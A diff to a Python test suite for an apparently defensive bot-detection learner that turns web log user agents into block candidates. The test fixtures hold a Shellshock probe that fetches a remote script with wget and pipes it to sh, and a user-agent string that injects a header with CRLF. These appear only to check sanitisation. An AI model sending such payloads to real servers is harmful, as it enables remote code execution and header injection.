@@ -241,8 +241,8 @@ def test_explain_names_the_features_behind_a_score() -> None:
 
 def test_odd_requests_are_scored_and_hostile_agents_give_plain_tokens() -> None:
     """Non-HTTP lines, empty agents and IPv6 are scored like the rest; a UA written to inject into
-    a rule yields only plain lower-case tokens as UA candidates (renderers escape them anyway)."""
-    evil = 'EvilBot"; return 403; # {{ $x }}\r\nX-Injected: 1/1.0'
+    a rule yields only plain lower-case product names as UA candidates (renderers escape them anyway)."""
+    evil = 'EvilBot/2.0"; return 403; # {{ $x }}\r\nX-Injected: 1/1.0'
     rows = [
         req(0, "45.148.10.9", "", None, method=None, status=400, valid=False),
         req(1, "2a01:cb00::5", CHROME, "/a?b=1"),
@@ -260,3 +260,27 @@ def test_odd_requests_are_scored_and_hostile_agents_give_plain_tokens() -> None:
     for cand in cands:
         assert cand.match_value.isascii() and cand.match_value in evil.lower()
         assert all(ch.isalnum() or ch in "._-" for ch in cand.match_value), cand.match_value
+
+
+def test_the_model_proposes_one_product_name_per_agent() -> None:
+    """Three robots-ignoring families on hosting /24s: a named one with a URL and a contact
+    address, a scanner's prose agent, a shellshock probe as nginx logs it. The model proposes one
+    UA candidate per agent, a product name: never a word of the prose, a version or a log escape."""
+    named = "Mozilla/5.0 (compatible; NovaScrape/1.0; +http://novascrape.example/bot; ops@nova.example)"
+    prose = ("Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times "
+             "per day v1.1.0. Opt out: scaninfo@paloaltonetworks.com")  # fmt: skip
+    probe = r"() { :; }; /bin/bash -c \x22wget http://198.51.100.7/x.sh -O- | sh\x22"
+    agents = (named, prose, probe)
+    rows = [
+        req(
+            i,
+            f"65.108.{12 + i % 5}.{i % 40 + 1}",
+            agents[i % 3],
+            "/trap/t" if i % 3 == 0 else f"/private/{i}",
+        )
+        for i in range(3000)
+    ]
+    model = learner(delta_interval=2.0)
+    _feed(model, rows, chunk=100)
+    ua = sorted(c.match_value for c in model.candidates() if c.match_kind == "ua_pattern")
+    assert ua == ["novascrape.example", "paloaltonetworks.com"], [c.signature for c in model.candidates()]
